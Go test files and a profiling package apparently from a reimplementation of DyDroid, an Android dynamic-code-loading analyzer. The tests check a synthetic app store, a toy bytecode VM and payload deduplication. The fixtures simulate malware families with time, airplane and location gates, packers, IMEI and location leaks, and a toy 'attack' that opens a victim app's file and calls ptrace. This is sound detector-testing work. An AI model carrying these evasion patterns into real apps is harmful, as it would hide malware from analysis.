		counts["nvOwn"] + counts["nvBoth"]
	if nvIntercepted != p.NativeIntercepted {
		t.Fatalf("native intercepted = %d, want %d", nvIntercepted, p.NativeIntercepted)
	}
	// DEX candidates.
	dexCand := p.DexIntercepted + counts["dualNT"] + counts["dexNT"] +
		counts["dexFailRewrite"] + counts["dexFailNoAct"] + counts["dexFailCrash"]
	if dexCand != p.DexCandidates {
		t.Fatalf("dex candidates = %d, want %d", dexCand, p.DexCandidates)
	}
	// Native candidates.
	nvCand := nvIntercepted + counts["adNT"] + counts["dualNT"] + counts["nvNT"] +
		counts["nvFailRewrite"] + counts["nvFailNoAct"] + counts["nvFailCrash"]
	if nvCand != p.NativeCandidates {
		t.Fatalf("native candidates = %d, want %d", nvCand, p.NativeCandidates)
	}
	// Union: candidates in both sets.
	overlap := counts["adN"] + counts["adNT"] + counts["genericN"] + counts["packed"] + counts["dualNT"]
	if union := dexCand + nvCand - overlap; union != p.UnionCandidates {
		t.Fatalf("union = %d, want %d", union, p.UnionCandidates)
	}
	// Obfuscation totals.
	lex := 0
	refl := 0
	for _, app := range st.Apps {
		if app.Spec.Lexical {
			lex++
		}
		if app.Spec.Reflection {
			refl++
		}
	}
	if lex != p.Lexical {
		t.Fatalf("lexical = %d, want %d", lex, p.Lexical)
	}
	if refl != p.Reflection {
		t.Fatalf("reflection = %d, want %d", refl, p.Reflection)
	}
	if counts["packed"] != p.Packed || counts["antiDecomp"] != p.AntiDecompile {
		t.Fatalf("packed/antidecomp = %d/%d", counts["packed"], counts["antiDecomp"])
	}
	// Malware files and gates.
	files := 0
	gateCount := map[Gate]int{}
	for _, app := range st.Apps {
		if app.Spec.MalwareFamily == "" {
			continue
		}
		files += len(app.Spec.Gates)
		for _, g := range app.Spec.Gates {
			gateCount[g]++
		}
	}
	if files != p.MalwareFiles {
		t.Fatalf("malware files = %d, want %d", files, p.MalwareFiles)
	}
	if gateCount[GateTime] != p.GateTime || gateCount[GateAirplane] != p.GateAirplane ||
		gateCount[GateConn] != p.GateConn || gateCount[GateLocation] != p.GateLocation {
		t.Fatalf("gates = %+v", gateCount)
	}
	// Privacy: spot-check the largest Table X rows.
	typeCount := map[string]int{}
	for _, app := range st.Apps {
		seen := map[android.DataType]bool{}
		for _, dt := range app.Spec.LeakThird {
			seen[dt] = true
		}
		for _, dt := range app.Spec.LeakOwn {
			seen[dt] = true
		}
		for dt := range seen {
			typeCount[string(dt)]++
		}
	}
	// Pre-seeded malware contributions complete these counts.
	if got := typeCount["IMEI"] + 3; got != 581 { // swiss + 2 adware leak IMEI
		t.Fatalf("IMEI apps = %d, want 581", got)
	}
	if got := typeCount["Location"]; got != 254 {
		t.Fatalf("Location apps = %d, want 254", got)
	}
	// Settings readers.
	settings := 0
	for _, app := range st.Apps {
		if app.Spec.ReadSettings || hasType(app.Spec.LeakOwn, android.DTSettings) {
			settings++
		}
	}
	if settings != p.SettingsReaders {
		t.Fatalf("settings readers = %d, want %d", settings, p.SettingsReaders)
	}
}

func TestGenerateDeterministic(t *testing.T) {
	a := genStore(t, 0.005)
	b := genStore(t, 0.005)
	if len(a.Apps) != len(b.Apps) {
		t.Fatal("sizes differ")
	}
	for i := range a.Apps {
		if a.Apps[i].Spec.Pkg != b.Apps[i].Spec.Pkg ||
			a.Apps[i].Meta.Downloads != b.Apps[i].Meta.Downloads {
			t.Fatalf("app %d differs", i)
		}
	}
	// Identical archives too.
	d1, err := a.BuildAPK(a.Apps[0])
	if err != nil {
		t.Fatal(err)
	}
	d2, err := b.BuildAPK(b.Apps[0])
	if err != nil {
		t.Fatal(err)
	}
	if string(d1) != string(d2) {
		t.Fatal("built archives differ")
	}
}

func TestAllArchetypesBuild(t *testing.T) {
	st := genStore(t, 0.003)
	seen := map[string]bool{}
	for _, app := range st.Apps {
		if seen[app.Spec.Archetype] {
			continue
		}
		seen[app.Spec.Archetype] = true
		if _, err := st.BuildAPK(app); err != nil {
			t.Fatalf("archetype %s (%s): %v", app.Spec.Archetype, app.Spec.Pkg, err)
		}
	}
	if len(seen) < 20 {
		t.Fatalf("only %d archetypes at this scale: %v", len(seen), seen)
	}
}

// analyzeArchetype runs the DyDroid pipeline on the first app of the
// archetype.
func analyzeArchetype(t *testing.T, st *Store, archetype string) *core.AppResult {
	t.Helper()
	clf, err := st.TrainingSet(1)
	if err != nil {
		t.Fatal(err)
	}
	an := core.NewAnalyzer(core.Options{
		Seed:        7,
		Classifier:  clf,
		Network:     st.Network,
		SetupDevice: st.SetupDevice,
	})
	for _, app := range st.Apps {
		if app.Spec.Archetype != archetype {
			continue
		}
		data, err := st.BuildAPK(app)
		if err != nil {
			t.Fatalf("build %s: %v", app.Spec.Pkg, err)
		}
		res, err := an.AnalyzeAPK(data)
		if err != nil {
			t.Fatalf("analyze %s: %v", app.Spec.Pkg, err)
		}
		return res
	}
	t.Fatalf("no app with archetype %s", archetype)
	return nil
}

func TestPipelineRecoversGroundTruth(t *testing.T) {
	st := genStore(t, 0.003)

	t.Run("ad app", func(t *testing.T) {
		res := analyzeArchetype(t, st, "adN")
		if res.Status != core.StatusExercised {
			t.Fatalf("status %s (%v)", res.Status, res.Crash)
		}
		if len(res.DexEvents()) == 0 || len(res.NativeEvents()) == 0 {
			t.Fatalf("events dex=%d native=%d", len(res.DexEvents()), len(res.NativeEvents()))
		}
		ev := res.DexEvents()[0]
		if ev.Entity != core.EntityThirdParty || ev.Provenance != core.ProvenanceLocal {
			t.Fatalf("ad event = %+v", ev)
		}
		if res.Privacy == nil || !res.PrivacyByEntity[string(android.DTSettings)] {
			t.Fatalf("ad app should leak settings third-party: %+v", res.PrivacyByEntity)
		}
		if len(res.Malware) != 0 {
			t.Fatalf("benign ad app flagged: %+v", res.Malware)
		}
	})

	t.Run("remote app", func(t *testing.T) {
		res := analyzeArchetype(t, st, "remote")
		if res.Status != core.StatusExercised {
			t.Fatalf("status %s (%v)", res.Status, res.Crash)
		}
		urls := res.RemoteURLs()
		if len(urls) != 1 {
			t.Fatalf("remote urls = %v", urls)
		}
	})

	t.Run("swiss malware", func(t *testing.T) {
		res := analyzeArchetype(t, st, "swiss")
		if len(res.Malware) != 1 || res.Malware[0].Family != "Swiss code monkeys" {
			t.Fatalf("malware = %+v (status %s, crash %v, events %d)",
				res.Malware, res.Status, res.Crash, len(res.Events))
		}
	})

	t.Run("chathook malware", func(t *testing.T) {
		res := analyzeArchetype(t, st, "chathook")
		if len(res.Malware) == 0 || res.Malware[0].Family != "Chathook ptrace" {
			t.Fatalf("malware = %+v (status %s, crash %v)", res.Malware, res.Status, res.Crash)
		}
		// The attack actually ran: root + ptrace events observed.
		kinds := map[string]bool{}
		for _, ev := range res.RuntimeEvents {
			kinds[ev.Kind] = true
		}
		if !kinds["root"] || !kinds["ptrace"] {
			t.Fatalf("runtime events = %+v", res.RuntimeEvents)
		}
	})

	t.Run("packed app", func(t *testing.T) {
		res := analyzeArchetype(t, st, "packed")
		if !res.Obfuscation.DEXEncryption {
			t.Fatalf("packer not detected: %+v", res.Obfuscation)
		}
		if res.Status != core.StatusExercised || len(res.DexEvents()) == 0 {
			t.Fatalf("packed app dynamic: status %s events %d", res.Status, len(res.DexEvents()))
		}
	})

	t.Run("vulnerable external", func(t *testing.T) {
		res := analyzeArchetype(t, st, "vulnExternalDex")
		if len(res.Vulns) != 1 || res.Vulns[0].Kind != core.VulnExternalStorage {
			t.Fatalf("vulns = %+v", res.Vulns)
		}
	})

	t.Run("vulnerable adobe air", func(t *testing.T) {
		res := analyzeArchetype(t, st, "vulnAir")
		if len(res.Vulns) != 1 || res.Vulns[0].Kind != core.VulnOtherAppInternal ||
			res.Vulns[0].OwnerPackage != AdobeAirPackage {
			t.Fatalf("vulns = %+v (status %s, crash %v)", res.Vulns, res.Status, res.Crash)
		}
	})

	t.Run("failures", func(t *testing.T) {
		if res := analyzeArchetype(t, st, "dexFailRewrite"); res.Status != core.StatusRewriteFailure {
			t.Fatalf("rewrite-failure status = %s", res.Status)
		}
		if res := analyzeArchetype(t, st, "dexFailNoAct"); res.Status != core.StatusNoActivity {
			t.Fatalf("no-activity status = %s", res.Status)
		}
		if res := analyzeArchetype(t, st, "dexFailCrash"); res.Status != core.StatusCrash {
			t.Fatalf("crash status = %s", res.Status)
		}
		if res := analyzeArchetype(t, st, "antiDecomp"); res.Status != core.StatusUnpackFailure {
			t.Fatalf("anti-decompile status = %s", res.Status)
		}
		if res := analyzeArchetype(t, st, "plain"); res.Status != core.StatusNoDCL {
			t.Fatalf("plain status = %s", res.Status)
		}
	})

	t.Run("dormant candidates", func(t *testing.T) {
		res := analyzeArchetype(t, st, "dexNT")
		if !res.PreFilter.HasDexDCL {
			t.Fatal("pre-filter missed dormant loader")
		}
		if res.Status != core.StatusExercised || len(res.Events) != 0 {
			t.Fatalf("dormant app: status %s events %d", res.Status, len(res.Events))
		}
	})

	t.Run("own entity", func(t *testing.T) {
		res := analyzeArchetype(t, st, "ownDex")
		own, third := res.Entities(core.KindDex)
		if !own || third {
			t.Fatalf("ownDex entities own=%v third=%v", own, third)
		}
		res = analyzeArchetype(t, st, "bothDex")
		own, third = res.Entities(core.KindDex)
		if !own || !third {
			t.Fatalf("bothDex entities own=%v third=%v", own, third)
		}
	})

	t.Run("lexical detected", func(t *testing.T) {
		// Ad apps are renamed in the plan; the detector must see it.
		res := analyzeArchetype(t, st, "adN")
		if !res.Obfuscation.Lexical {
			t.Fatalf("lexically renamed ad app not detected: fraction %f",
				res.Obfuscation.MeaningfulFraction)
		}
	})
}

func TestReplayGatesSuppressLoads(t *testing.T) {
	st := genStore(t, 1.0) // specs only; we build just the apps we need
	clf, err := st.TrainingSet(1)
	if err != nil {
		t.Fatal(err)
	}
	an := core.NewAnalyzer(core.Options{
		Seed: 7, Classifier: clf, Network: st.Network, SetupDevice: st.SetupDevice,
	})
	// Find one chathook app gated on time.
	var target *StoreApp
	for _, app := range st.Apps {
		if app.Spec.MalwareFamily == "chathook" && len(app.Spec.Gates) > 0 &&
			app.Spec.Gates[0] == GateTime {
			target = app
			break
		}
	}
	if target == nil {
		t.Skip("no time-gated chathook app at this scale")
	}
	data, err := st.BuildAPK(target)
	if err != nil {
		t.Fatal(err)
	}
	normal, err := an.AnalyzeAPK(data)
	if err != nil {
		t.Fatal(err)
	}
	if len(normal.NativeEvents()) == 0 {
		t.Fatalf("gated malware did not load under normal config: %s (%v)", normal.Status, normal.Crash)
	}
	loaded, err := an.ReplayUnderConfig(data, core.ConfigTimeBeforeRelease, target.Meta.ReleaseDate)
	if err != nil {
		t.Fatal(err)
	}
	if len(loaded) != 0 {
		t.Fatalf("time-gated files loaded under pre-release clock: %v", loaded)
	}
}

func TestCnadDownloadsTwoFiles(t *testing.T) {
	// The paper's example remote app fetches a JAR and an APK; both loads
	// must be intercepted with remote provenance.
	st := genStore(t, 1.0)
	clf, err := st.TrainingSet(1)
	if err != nil {
		t.Fatal(err)
	}
	an := core.NewAnalyzer(core.Options{
		Seed: 7, Classifier: clf, Network: st.Network, SetupDevice: st.SetupDevice,
	})
	for _, app := range st.Apps {
		if app.Spec.Pkg != "com.classicalmuseumad.cnad" {
			continue
		}
		data, err := st.BuildAPK(app)
		if err != nil {
			t.Fatal(err)
		}
		res, err := an.AnalyzeAPK(data)
		if err != nil {
			t.Fatal(err)
		}
		evs := res.DexEvents()
		if len(evs) != 2 {
			t.Fatalf("cnad events = %d, want 2 (JAR + APK)", len(evs))
		}
		urls := res.RemoteURLs()
		if len(urls) != 2 {
			t.Fatalf("cnad remote urls = %v", urls)
		}
		return
	}
	t.Fatal("cnad app not generated")
}
