package nativebin

import (
	"errors"
	"math/rand"
	"reflect"
	"strings"
	"testing"
	"testing/quick"
)

// xorLib builds a library whose "decrypt" symbol XORs a buffer in place:
// r0 = buffer address, r1 = length, r2 = key byte.
func xorLib() *Library {
	b := NewBuilder("libshell.so", "arm")
	b.Symbol("decrypt").
		MovI(3, 0). // index
		Label("top").
		MovR(4, 1).
		Cmp(3, 4).
		Bge("done").
		Add(5, 0, 3). // addr = buf + i
		Ldrb(6, 5, 0).
		Xor(6, 6, 2).
		Strb(6, 5, 0).
		AddI(3, 3, 1).
		B("top").
		Label("done").
		Ret()
	return b.Build()
}

func TestEncodeDecodeRoundTrip(t *testing.T) {
	l := xorLib()
	data, err := Encode(l)
	if err != nil {
		t.Fatalf("Encode: %v", err)
	}
	if !IsSELF(data) {
		t.Fatal("missing SELF magic")
	}
	got, err := Decode(data)
	if err != nil {
		t.Fatalf("Decode: %v", err)
	}
	if !reflect.DeepEqual(normalizeLib(l), normalizeLib(got)) {
		t.Fatalf("round-trip mismatch:\nwant %+v\ngot  %+v", l, got)
	}
}

func TestDecodeRejectsCorruption(t *testing.T) {
	data, err := Encode(xorLib())
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name   string
		mutate func([]byte) []byte
	}{
		{"bad magic", func(d []byte) []byte { d[0] = 'X'; return d }},
		{"truncated", func(d []byte) []byte { return d[:len(d)-6] }},
		{"flipped body", func(d []byte) []byte { d[15] ^= 0xff; return d }},
		{"empty", func(d []byte) []byte { return nil }},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if _, err := Decode(tc.mutate(append([]byte(nil), data...))); err == nil {
				t.Fatal("Decode accepted corrupted input")
			}
		})
	}
}

func TestMachineXorDecrypt(t *testing.T) {
	m := NewMachine(xorLib(), nil)
	plain := []byte("attack at dawn")
	enc := make([]byte, len(plain))
	const key = 0x5a
	for i, c := range plain {
		enc[i] = c ^ key
	}
	addr, err := m.Alloc(int64(len(enc)))
	if err != nil {
		t.Fatal(err)
	}
	if err := m.WriteBytes(addr, enc); err != nil {
		t.Fatal(err)
	}
	if _, err := m.Call("decrypt", addr, int64(len(enc)), key); err != nil {
		t.Fatalf("Call: %v", err)
	}
	got, err := m.ReadBytes(addr, int64(len(plain)))
	if err != nil {
		t.Fatal(err)
	}
	if string(got) != string(plain) {
		t.Fatalf("decrypt produced %q, want %q", got, plain)
	}
}

func TestMachineCallUnknownSymbol(t *testing.T) {
	m := NewMachine(xorLib(), nil)
	if _, err := m.Call("nope"); !errors.Is(err, ErrNoSymbol) {
		t.Fatalf("err = %v, want ErrNoSymbol", err)
	}
}

func TestMachineStepBudget(t *testing.T) {
	b := NewBuilder("libloop.so", "arm")
	b.Symbol("spin").Label("l").B("l")
	m := NewMachine(b.Build(), nil)
	m.StepBudget = 1000
	if _, err := m.Call("spin"); !errors.Is(err, ErrStepBudget) {
		t.Fatalf("err = %v, want ErrStepBudget", err)
	}
}

func TestMachineSyscallDispatch(t *testing.T) {
	b := NewBuilder("libsys.so", "arm")
	pathAddr := b.CString("/data/data/victim/file")
	b.Symbol("attack").
		MovI(0, pathAddr).
		Svc(SysOpen).
		MovI(0, 1234).
		Svc(SysPtrace).
		Ret()
	var calls []string
	sys := SyscallFunc(func(mem Memory, num int64, args [4]int64) (int64, error) {
		switch num {
		case SysOpen:
			s, err := mem.ReadCString(args[0])
			if err != nil {
				return -1, err
			}
			calls = append(calls, "open:"+s)
			return 3, nil
		case SysPtrace:
			calls = append(calls, "ptrace")
			return 0, nil
		}
		return -1, nil
	})
	m := NewMachine(b.Build(), sys)
	if _, err := m.Call("attack"); err != nil {
		t.Fatalf("Call: %v", err)
	}
	want := []string{"open:/data/data/victim/file", "ptrace"}
	if !reflect.DeepEqual(calls, want) {
		t.Fatalf("syscalls = %v, want %v", calls, want)
	}
}

func TestMachineExitStopsExecution(t *testing.T) {
	b := NewBuilder("libexit.so", "arm")
	b.Symbol("main").
		MovI(0, 42).
		Svc(SysExit).
		MovI(0, 7). // must not run
		Ret()
	m := NewMachine(b.Build(), nil)
	res, err := m.Call("main")
	if err != nil {
		t.Fatal(err)
	}
	if res != 42 {
		t.Fatalf("result = %d, want 42 (exit should stop execution)", res)
	}
}

func TestMachineNestedCalls(t *testing.T) {
	b := NewBuilder("libcall.so", "arm")
	b.Symbol("double").
		Add(0, 0, 0).
		Ret()
	b.Symbol("quad").
		Bl("double").
		Bl("double").
		Ret()
	m := NewMachine(b.Build(), nil)
	res, err := m.Call("quad", 3)
	if err != nil {
		t.Fatal(err)
	}
	if res != 12 {
		t.Fatalf("quad(3) = %d, want 12", res)
	}
}

func TestMachinePushPop(t *testing.T) {
	b := NewBuilder("libstack.so", "arm")
	b.Symbol("swapish").
		Push(0).
		MovI(0, 99).
		Pop(1).
		Add(0, 0, 1).
		Ret()
	m := NewMachine(b.Build(), nil)
	res, err := m.Call("swapish", 1)
	if err != nil {
		t.Fatal(err)
	}
	if res != 100 {
		t.Fatalf("result = %d, want 100", res)
	}
}

func TestMachinePopEmptyStack(t *testing.T) {
	b := NewBuilder("libbad.so", "arm")
	b.Symbol("bad").Pop(0).Ret()
	m := NewMachine(b.Build(), nil)
	if _, err := m.Call("bad"); err == nil {
		t.Fatal("pop on empty stack did not error")
	}
}

func TestMachineMemoryFaults(t *testing.T) {
	b := NewBuilder("libfault.so", "arm")
	b.Symbol("fault").
		MovI(1, MemSize+100).
		Ldrb(0, 1, 0).
		Ret()
	m := NewMachine(b.Build(), nil)
	if _, err := m.Call("fault"); !errors.Is(err, ErrMemFault) {
		t.Fatalf("err = %v, want ErrMemFault", err)
	}
}

func TestValidateRejectsBadTargets(t *testing.T) {
	l := &Library{Soname: "x.so", Arch: "arm", Code: []Instr{{Op: B, Target: 99}}}
	if err := l.Validate(); err == nil {
		t.Fatal("Validate accepted bad branch target")
	}
	l = &Library{Soname: "x.so", Arch: "arm",
		Symbols: []Symbol{{Name: "f", Entry: 5}}, Code: []Instr{{Op: Ret}}}
	if err := l.Validate(); err == nil {
		t.Fatal("Validate accepted bad symbol entry")
	}
}

func TestDisassembleMentionsSymbolsAndOps(t *testing.T) {
	text := Disassemble(xorLib())
	for _, want := range []string{"libshell.so", "decrypt:", "eor", "ldrb", "strb", "ret"} {
		if !strings.Contains(text, want) {
			t.Fatalf("disassembly missing %q:\n%s", want, text)
		}
	}
}

func randLib(r *rand.Rand) *Library {
	b := NewBuilder("librand.so", "arm")
	b.Symbol("entry")
	n := 1 + r.Intn(20)
	for i := 0; i < n; i++ {
		switch r.Intn(6) {
		case 0:
			b.MovI(r.Intn(NumRegs), int64(r.Intn(100)))
		case 1:
			b.MovR(r.Intn(NumRegs), r.Intn(NumRegs))
		case 2:
			b.Add(r.Intn(NumRegs), r.Intn(NumRegs), r.Intn(NumRegs))
		case 3:
			b.Xor(r.Intn(NumRegs), r.Intn(NumRegs), r.Intn(NumRegs))
		case 4:
			b.CmpI(r.Intn(NumRegs), int64(r.Intn(10)))
		case 5:
			b.Nop()
		}
	}
	b.Ret()
	if r.Intn(2) == 0 {
		b.CString("random data")
	}
	return b.Build()
}

func TestPropertyEncodeDecodeRoundTrip(t *testing.T) {
	cfg := &quick.Config{
		MaxCount: 50,
		Values: func(vals []reflect.Value, r *rand.Rand) {
			vals[0] = reflect.ValueOf(randLib(r))
		},
	}
	prop := func(l *Library) bool {
		data, err := Encode(l)
		if err != nil {
			return false
		}
		got, err := Decode(data)
		if err != nil {
			return false
		}
		return reflect.DeepEqual(normalizeLib(l), normalizeLib(got))
	}
	if err := quick.Check(prop, cfg); err != nil {
		t.Fatal(err)
	}
}

func TestPropertyStraightLineTerminates(t *testing.T) {
	cfg := &quick.Config{
		MaxCount: 30,
		Values: func(vals []reflect.Value, r *rand.Rand) {
			vals[0] = reflect.ValueOf(randLib(r))
		},
	}
	prop := func(l *Library) bool {
		m := NewMachine(l, nil)
		_, err := m.Call("entry")
		return err == nil
	}
	if err := quick.Check(prop, cfg); err != nil {
		t.Fatal(err)
	}
}

func normalizeLib(l *Library) *Library {
	nl := *l
	if len(nl.Data) == 0 {
		nl.Data = nil
	}
	if len(nl.Symbols) == 0 {
		nl.Symbols = nil
	}
	if len(nl.Code) == 0 {
		nl.Code = nil
	}
	return &nl
}

func TestAllOpsEncodeDisassemble(t *testing.T) {
	// One instruction of every opcode round-trips and disassembles.
	b := NewBuilder("liball.so", "x86")
	b.CString("data")
	b.Symbol("all").
		Nop().
		MovI(0, 7).
		MovR(1, 0).
		Ldrb(2, 1, 4).
		Strb(2, 1, 4).
		Add(3, 0, 1).
		Sub(3, 0, 1).
		Xor(3, 0, 1).
		And(3, 0, 1).
		Orr(3, 0, 1).
		AddI(3, 0, 9).
		Cmp(0, 1).
		CmpI(0, 5).
		Label("x").
		Beq("x").
		Bne("x").
		Blt("x").
		Bge("x").
		B("end").
		Label("end").
		Bl("all").
		Svc(SysTime).
		Push(0).
		Pop(1).
		Ret()
	lib := b.Build()
	data, err := Encode(lib)
	if err != nil {
		t.Fatal(err)
	}
	got, err := Decode(data)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(normalizeLib(lib), normalizeLib(got)) {
		t.Fatal("all-ops round trip mismatch")
	}
	text := Disassemble(got)
	for _, want := range []string{"mov r0, #7", "movr r1, r0", "ldrb", "strb",
		"add", "sub", "eor", "and", "orr", "addi", "cmp", "cmpi",
		"beq", "bne", "blt", "bge", "bl all", "svc #13", "push", "pop", "ret",
		"arch=x86"} {
		if !strings.Contains(text, want) {
			t.Fatalf("disassembly missing %q:\n%s", want, text)
		}
	}
}

func TestMachineAndOrrSemantics(t *testing.T) {
	b := NewBuilder("libbits.so", "arm")
	b.Symbol("bits").
		MovI(1, 0b1100).
		MovI(2, 0b1010).
		And(3, 1, 2).
		Orr(4, 1, 2).
		Add(0, 3, 4). // 8 + 14 = 22
		Ret()
	m := NewMachine(b.Build(), nil)
	res, err := m.Call("bits")
	if err != nil {
		t.Fatal(err)
	}
	if res != 22 {
		t.Fatalf("and/orr combination = %d, want 22", res)
	}
}

func TestMachineConditionalBranchDirections(t *testing.T) {
	// blt taken and not taken; bge taken and not taken.
	mk := func(a, b int64) int64 {
		nb := NewBuilder("libcmp.so", "arm")
		nb.Symbol("f").
			MovI(1, a).
			MovI(2, b).
			Cmp(1, 2).
			Blt("less").
			MovI(0, 100).
			Ret().
			Label("less").
			MovI(0, 200).
			Ret()
		m := NewMachine(nb.Build(), nil)
		res, err := m.Call("f")
		if err != nil {
			t.Fatal(err)
		}
		return res
	}
	if mk(1, 2) != 200 || mk(3, 2) != 100 || mk(2, 2) != 100 {
		t.Fatal("comparison branch semantics wrong")
	}
}

func TestWriteStringAndAllocBounds(t *testing.T) {
	b := NewBuilder("libmem.so", "arm")
	b.Symbol("f").Ret()
	m := NewMachine(b.Build(), nil)
	addr, err := m.WriteString("/a/b/c")
	if err != nil {
		t.Fatal(err)
	}
	s, err := m.ReadCString(addr)
	if err != nil || s != "/a/b/c" {
		t.Fatalf("ReadCString = %q, %v", s, err)
	}
	if _, err := m.Alloc(-1); err == nil {
		t.Fatal("negative alloc accepted")
	}
	if _, err := m.Alloc(MemSize * 2); err == nil {
		t.Fatal("oversized alloc accepted")
	}
	if _, err := m.ReadBytes(-1, 4); err == nil {
		t.Fatal("negative read accepted")
	}
	if err := m.WriteBytes(MemSize-1, []byte{1, 2, 3}); err == nil {
		t.Fatal("overflowing write accepted")
	}
	if _, err := m.ReadCString(MemSize + 5); err == nil {
		t.Fatal("out-of-range cstring accepted")
	}
}
