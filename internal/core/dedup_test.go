package core

import (
	"sort"
	"testing"

	"github.com/dydroid/dydroid/internal/android"
)

// TestStaticDedupClassifiesOverwrittenPayload: a payload overwritten at
// the same path between two loads (the packer-swap pattern, §V-F) is a
// distinct binary; keying the dedup on path alone skipped it and its
// findings. The key is (path, content hash).
func TestStaticDedupClassifiesOverwrittenPayload(t *testing.T) {
	path := "/data/data/com.swap.app/cache/stage.dex"
	first := payloadWithLeak(t, "com.packer.StageOne")
	second := payloadWithLeak(t, "com.packer.StageTwo")

	an := NewAnalyzer(Options{})
	res := &AppResult{
		Package: "com.swap.app",
		Events: []*DCLEvent{
			{Kind: KindDex, Path: path, Intercepted: first},
			{Kind: KindDex, Path: path, Intercepted: second},
		},
	}
	an.staticOnIntercepted(res)
	if res.Privacy == nil {
		t.Fatal("no privacy result")
	}
	classes := res.Privacy.LeakClasses(android.DTIMEI)
	sort.Strings(classes)
	want := []string{"com.packer.StageOne", "com.packer.StageTwo"}
	if len(classes) != 2 || classes[0] != want[0] || classes[1] != want[1] {
		t.Fatalf("leak classes = %v, want %v (swapped payload not classified)", classes, want)
	}
}

// TestStaticDedupStillSkipsIdenticalReload: the same binary loaded twice
// at the same path is classified once, as before.
func TestStaticDedupStillSkipsIdenticalReload(t *testing.T) {
	path := "/data/data/com.same.app/cache/ad.dex"
	payload := payloadWithLeak(t, "com.google.ads.dynamic.AdCore")

	an := NewAnalyzer(Options{})
	res := &AppResult{
		Package: "com.same.app",
		Events: []*DCLEvent{
			{Kind: KindDex, Path: path, Intercepted: payload},
			{Kind: KindDex, Path: path, Intercepted: payload},
		},
	}
	an.staticOnIntercepted(res)
	if res.Privacy == nil {
		t.Fatal("no privacy result")
	}
	if n := len(res.Privacy.Leaks); n != 1 {
		t.Fatalf("leaks = %d, want 1 (identical reload double-classified)", n)
	}
}
