// Package profile is the continuous-profiling layer of the vetting
// fleet: short CPU-profile windows plus runtime-metrics deltas captured
// on a cadence — and immediately when an SLO burn-rate alert or the
// slow-analysis watchdog fires — into a bounded, time-indexed ring of
// windows. Every window carries the raw pprof bytes *and* a parsed
// top-functions summary (flat/cum self-time per function), so two
// windows from different nodes or different days are comparable with
// nothing but the JSON: the dashboard, `apkinspect profile top|diff`
// and the coordinator's federated /v1/profiles all read the same
// summaries.
//
// The package also owns per-stage resource attribution: MeterSpan wraps
// a pipeline stage span and stamps cpu.ns / alloc.bytes / alloc.objects
// attrs from process-scoped deltas, which telemetry folds into the
// mergeable cost-per-stage table.
package profile

import (
	"bytes"
	"context"
	"fmt"
	"log/slog"
	"runtime"
	runtimemetrics "runtime/metrics"
	"runtime/pprof"
	"sync"
	"time"

	"github.com/dydroid/dydroid/internal/events"
	"github.com/dydroid/dydroid/internal/metrics"
)

// Trigger values recorded on captured windows.
const (
	// TriggerSampler marks cadence windows from the background loop.
	TriggerSampler = "sampler"
	// TriggerWatchdog marks windows captured because an analysis outlived
	// the -slow-deadline watchdog.
	TriggerWatchdog = "watchdog"
	// TriggerSLOPrefix prefixes windows captured on an SLO burn-rate
	// alert; the objective name follows ("slo:scan-availability").
	TriggerSLOPrefix = "slo:"
)

// RuntimeDelta is the runtime/metrics view of one window: allocation
// pressure and GC activity across exactly the profiled interval, plus
// the process CPU time consumed (getrusage deltas).
type RuntimeDelta struct {
	CPUNS        int64 `json:"cpu_ns"`
	AllocBytes   int64 `json:"alloc_bytes"`
	AllocObjects int64 `json:"alloc_objects"`
	GCCycles     int64 `json:"gc_cycles"`
	// HeapLiveBytes is the end-of-window live heap (a level, not a delta).
	HeapLiveBytes int64 `json:"heap_live_bytes"`
	// Goroutines is the end-of-window goroutine count.
	Goroutines int `json:"goroutines"`
}

// Window is one captured profile: identity, what triggered it, the raw
// (gzipped pprof) profile and the parsed summary. Raw bytes serialize as
// base64 in JSON; the index form (Meta) omits them.
type Window struct {
	ID      string    `json:"id"`
	Node    string    `json:"node,omitempty"`
	Trigger string    `json:"trigger"`
	Digest  string    `json:"digest,omitempty"`
	TraceID string    `json:"trace_id,omitempty"`
	StartAt time.Time `json:"start"`
	EndAt   time.Time `json:"end"`

	Runtime RuntimeDelta `json:"runtime"`
	Summary *Summary     `json:"summary,omitempty"`
	// Err records a capture that produced no usable pprof bytes (the
	// process-global CPU profiler was busy, or parsing failed); the
	// runtime deltas are still valid.
	Err   string `json:"err,omitempty"`
	Pprof []byte `json:"pprof,omitempty"`
}

// Meta is the index row of a window — everything but the raw bytes and
// the full function table.
type Meta struct {
	ID         string    `json:"id"`
	Node       string    `json:"node,omitempty"`
	Trigger    string    `json:"trigger"`
	Digest     string    `json:"digest,omitempty"`
	TraceID    string    `json:"trace_id,omitempty"`
	StartAt    time.Time `json:"start"`
	DurationNS int64     `json:"duration_ns"`
	Samples    int64     `json:"samples"`
	CPUNS      int64     `json:"cpu_ns"`
	TopFunc    string    `json:"top_func,omitempty"`
	Bytes      int       `json:"bytes"`
	Err        string    `json:"err,omitempty"`
}

// Meta projects the window's index row.
func (w *Window) Meta() Meta {
	m := Meta{
		ID: w.ID, Node: w.Node, Trigger: w.Trigger, Digest: w.Digest,
		TraceID: w.TraceID, StartAt: w.StartAt,
		DurationNS: w.EndAt.Sub(w.StartAt).Nanoseconds(),
		CPUNS:      w.Runtime.CPUNS, Bytes: len(w.Pprof), Err: w.Err,
	}
	if w.Summary != nil {
		m.Samples = w.Summary.Samples
		m.TopFunc = w.Summary.TopFunc()
	}
	return m
}

// Options configures a Recorder. The zero value works: 250ms windows,
// 30s cadence, 32 retained windows, top 20 functions, 30s trigger
// cooldown.
type Options struct {
	// Node names the owning fleet member, stamped on every window.
	Node string
	// WindowDur is how long each CPU-profile window records.
	WindowDur time.Duration
	// Interval is the background sampler cadence (Run's tick).
	Interval time.Duration
	// Cap bounds the ring; the oldest window is evicted past it.
	Cap int
	// TopN bounds each window's parsed function table.
	TopN int
	// Cooldown is the minimum spacing between alert-triggered captures
	// sharing a trigger key, so a burning SLO doesn't turn the ring into
	// 32 copies of the same incident.
	Cooldown time.Duration
	// Journal, when set, receives a profile-captured event per
	// alert-triggered window (sampler cadence windows are not journaled).
	Journal *events.Journal
	// Metrics, when set, receives capture counters and ring gauges.
	Metrics *metrics.Registry
	Logger  *slog.Logger
}

// Recorder owns the profile ring: cadence sampling, alert-triggered
// capture and the read API. All methods are safe for concurrent use; a
// nil Recorder is inert, so callers thread an optional *Recorder without
// nil checks.
type Recorder struct {
	opts Options

	// captureMu serializes windows: runtime/pprof CPU profiling is
	// process-global, so overlapping captures cannot both succeed.
	captureMu sync.Mutex

